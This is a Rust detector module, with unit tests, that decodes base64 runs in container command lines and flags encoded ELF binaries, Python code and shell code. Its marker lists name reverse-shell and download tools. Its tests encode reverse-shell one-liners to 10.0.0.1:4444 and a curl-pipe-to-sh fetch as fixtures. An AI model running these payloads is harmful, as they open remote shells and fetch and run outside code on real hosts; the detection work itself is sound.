//! Base64-encoded payloads on command lines in containers: every argument (a `sh -c` command
//! string included) is scanned for runs of at least [`MIN_RUN`] base64 characters (standard or
//! URL-safe alphabet, padding optional); each run is decoded and classified, in this order:
//!
//! - an ELF executable (`\x7fELF`): **Base64 ELF File Command Line**;
//! - Python code: **Base64 Encoded Python Script Executed**;
//! - shell code: **Base64 Encoded Shell Script Executed**.
//!
//! Code is recognised by markers ([`PYTHON_MARKERS`], [`SHELL_MARKERS`]) in text that is mostly
//! printable: tokens, certificates and configuration in base64 decode to data and are not
//! reported. One finding per process; a process under an ancestor (same container) that
//! already carried an encoded payload is not reported again.

use super::{ancestor_in_container_matches, quoted_argument, with_image};
use base64::Engine as _;
use shrike_core::event::ExecEvent;
use shrike_core::{Detection, DetectionContext, Detector, FindingType};

/// The shortest base64 run considered (18 bytes once decoded).
pub const MIN_RUN: usize = 24;

/// What decoded text must hold to count as Python.
pub const PYTHON_MARKERS: &[&str] = &[
    "import ",
    "__import__",
    "exec(",
    "eval(",
    "subprocess",
    "socket.",
    "os.system",
    "os.dup2",
    "def ",
    "pty.spawn",
];

/// What decoded text must hold to count as shell code.
pub const SHELL_MARKERS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "bash -i",
    "/dev/tcp/",
    "curl ",
    "wget ",
    "chmod +x",
    "nc ",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "rm -rf",
    "crontab",
];

/// What a run decoded to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Payload {
    /// An ELF executable.
    Elf,
    /// Python code.
    Python,
    /// Shell code.
    Shell,
}

/// Which bytes are base64 characters, of either alphabet.
const B64: [bool; 256] = {
    let mut table = [false; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        table[c] = b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_');
        c += 1;
    }
    table
};

fn is_b64(c: u8) -> bool {
    B64[usize::from(c)]
}

/// The base64 runs of at least [`MIN_RUN`] characters in `arg`, padding included.
fn runs(arg: &str) -> impl Iterator<Item = &str> {
    let b = arg.as_bytes();
    let mut i = 0;
    std::iter::from_fn(move || {
        while i < b.len() {
            // A run of MIN_RUN or more starting anywhere in i..=j, j = i + MIN_RUN - 1, covers
            // j with a base64 character or padding: when j holds neither, none starts there.
            // Arguments are mostly paths, words and options, so most are passed over this way.
            match b.get(i + MIN_RUN - 1) {
                None => return None,
                Some(&c) if !is_b64(c) && c != b'=' => {
                    i += MIN_RUN;
                    continue;
                }
                Some(_) => {}
            }
            if !is_b64(b[i]) {
                i += 1;
                continue;
            }
            let start = i;
            while i < b.len() && is_b64(b[i]) {
                i += 1;
            }
            let mut padding = 0;
            while padding < 2 && i < b.len() && b[i] == b'=' {
                i += 1;
                padding += 1;
            }
            if i - start >= MIN_RUN {
                return Some(&arg[start..i]);
            }
        }
        None
    })
}

/// Decodes a run in either alphabet, with or without padding.
fn decode(run: &str) -> Option<Vec<u8>> {
    use base64::engine::general_purpose::{GeneralPurpose, STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    let bare = run.trim_end_matches('=');
    let engine: &GeneralPurpose = if bare.contains(['-', '_']) {
        &URL_SAFE_NO_PAD
    } else {
        &STANDARD_NO_PAD
    };
    engine.decode(bare).ok()
}

/// True when at least 90% of `text` is printable ASCII or whitespace.
fn mostly_printable(text: &[u8]) -> bool {
    let printable = text
        .iter()
        .filter(|&&c| c.is_ascii_graphic() || c.is_ascii_whitespace())
        .count();
    printable * 10 >= text.len() * 9
}

/// Classifies decoded bytes.
pub fn classify(decoded: &[u8]) -> Option<Payload> {
    if decoded.starts_with(b"\x7fELF") {
        return Some(Payload::Elf);
    }
    if !mostly_printable(decoded) {
        return None;
    }
    let text = String::from_utf8_lossy(decoded);
    if PYTHON_MARKERS.iter().any(|m| text.contains(m)) {
        return Some(Payload::Python);
    }
    if SHELL_MARKERS.iter().any(|m| text.contains(m)) {
        return Some(Payload::Shell);
    }
    None
}

/// The first encoded payload on the command line: (argument index, run, decoded, kind).
fn encoded_payload(exec: &ExecEvent) -> Option<(usize, &str, Vec<u8>, Payload)> {
    exec.argv.iter().enumerate().skip(1).find_map(|(i, arg)| {
        // Most arguments are short: no run can fit.
        if arg.len() < MIN_RUN {
            return None;
        }
        runs(arg).find_map(|run| {
            let decoded = decode(run)?;
            classify(&decoded).map(|kind| (i, run, decoded, kind))
        })
    })
}

/// A readable preview of decoded code: control characters escaped, at most 256 characters.
fn preview(decoded: &[u8], kind: Payload) -> String {
    if kind == Payload::Elf {
        let class = match decoded.get(4) {
            Some(1) => "32-bit",
            Some(2) => "64-bit",
            _ => "unknown class",
        };
        let endian = match decoded.get(5) {
            Some(1) => "little-endian",
            Some(2) => "big-endian",
            _ => "unknown byte order",
        };
        return format!("ELF {class} {endian}");
    }
    let text: String = String::from_utf8_lossy(decoded)
        .chars()
        .flat_map(|c| {
            if c.is_control() && c != ' ' {
                c.escape_default().collect::<Vec<_>>()
            } else {
                vec![c]
            }
        })
        .collect();
    quoted_argument(&text)
}

/// See the module documentation.
#[derive(Debug, Clone, Copy, Default)]
pub struct Base64CmdlineDetector;

impl Detector for Base64CmdlineDetector {
    fn name(&self) -> &'static str {
        "base64-cmdline"
    }

    fn finding_types(&self) -> &'static [FindingType] {
        &[
            FindingType::Base64ElfFileCmdline,
            FindingType::Base64EncodedPythonScriptExecuted,
            FindingType::Base64EncodedShellScriptExecuted,
        ]
    }

    fn on_exec(&self, exec: &ExecEvent, ctx: &DetectionContext<'_>) -> Option<Detection> {
        let container = exec.container.as_ref()?;
        let (index, run, decoded, kind) = encoded_payload(exec)?;
        if ancestor_in_container_matches(ctx, |a, _| encoded_payload(a).is_some()) {
            return None;
        }
        let (finding_type, what) = match kind {
            Payload::Elf => (FindingType::Base64ElfFileCmdline, "an ELF executable"),
            Payload::Python => (
                FindingType::Base64EncodedPythonScriptExecuted,
                "Python code",
            ),
            Payload::Shell => (FindingType::Base64EncodedShellScriptExecuted, "shell code"),
        };
        let summary = format!(
            "argument {index} of {} in container {} holds base64 that decodes to {what} ({} bytes)",
            exec.exe.path,
            container.name.as_deref().unwrap_or(&container.id),
            decoded.len()
        );
        let detection = Detection::new(finding_type, summary)
            .with_property("Encoded_Argument_Index", index as u64)
            .with_property("Encoded_Snippet", quoted_argument(run))
            .with_property("Decoded_Size", decoded.len() as u64)
            .with_property("Decoded_Preview", preview(&decoded, kind));
        Some(with_image(detection, exec))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn b64(s: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(s)
    }

    fn kind(arg: &str) -> Option<Payload> {
        runs(arg).find_map(|r| decode(r).and_then(|d| classify(&d)))
    }

    /// [`runs`] without its skip: every byte looked at.
    fn plain_runs(arg: &str) -> Vec<&str> {
        let b = arg.as_bytes();
        let (mut i, mut out) = (0, Vec::new());
        while i < b.len() {
            if !is_b64(b[i]) {
                i += 1;
                continue;
            }
            let start = i;
            while i < b.len() && is_b64(b[i]) {
                i += 1;
            }
            let mut padding = 0;
            while padding < 2 && i < b.len() && b[i] == b'=' {
                i += 1;
                padding += 1;
            }
            if i - start >= MIN_RUN {
                out.push(&arg[start..i]);
            }
        }
        out
    }

    #[test]
    fn runs_skip_nothing_a_full_scan_finds() {
        // Mostly base64 characters, with separators and padding often enough that runs both
        // reach and miss MIN_RUN, around every boundary.
        let alphabet = b"AAAAAAAAAAAAAAAaaaaaaaaaaaaaaaaaz09+/-_AAAAAAAAAAAAAAAA==  .:";
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut with_runs = 0;
        for len in 0..120 {
            for _ in 0..400 {
                let arg: String = crate::detectors::random_text(alphabet, len, &mut x)
                    .into_iter()
                    .map(char::from)
                    .collect();
                let found = plain_runs(&arg);
                with_runs += usize::from(!found.is_empty());
                assert_eq!(runs(&arg).collect::<Vec<_>>(), found, "{arg:?}");
            }
        }
        assert!(with_runs > 5_000, "only {with_runs} arguments held a run");
    }

    #[test]
    fn payloads_are_classified() {
        let elf = b64(b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00");
        assert_eq!(
            kind(&format!("echo {elf} | base64 -d > /tmp/x")),
            Some(Payload::Elf)
        );
        let py = b64(b"import socket,os;s=socket.socket();s.connect(('10.0.0.1',4444))");
        assert_eq!(
            kind(&format!("import base64;exec(base64.b64decode('{py}'))")),
            Some(Payload::Python)
        );
        let sh = b64(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        assert_eq!(
            kind(&format!("echo {sh}|base64 -d|bash")),
            Some(Payload::Shell)
        );
        let url_safe = base64::engine::general_purpose::URL_SAFE_NO_PAD
            .encode(b"curl -s http://198.51.100.9/x.sh?a=1 | sh >/dev/null 2>&1 ???");
        assert_eq!(kind(&url_safe), Some(Payload::Shell));
    }

    #[test]
    fn data_in_base64_is_not_code() {
        // A JWT, a certificate fragment, a JSON config and random bytes.
        let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl";
        assert_eq!(kind(jwt), None);
        assert_eq!(
            kind("MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJRTESMBAGA1UE"),
            None
        );
        assert_eq!(
            kind(&b64(
                br#"{"database":{"host":"db","port":5432,"user":"app"}}"#
            )),
            None
        );
        assert_eq!(kind(&b64(&[0x91u8; 64])), None);
        assert_eq!(
            kind("/usr/local/lib/python3.11/site-packages/some_long_module_name"),
            None
        );
    }

    #[test]
    fn previews_escape_and_describe() {
        assert_eq!(
            preview(b"\x7fELF\x02\x01", Payload::Elf),
            "ELF 64-bit little-endian"
        );
        assert_eq!(preview(b"a\nb\tc", Payload::Shell), "a\\nb\\tc");
    }
}
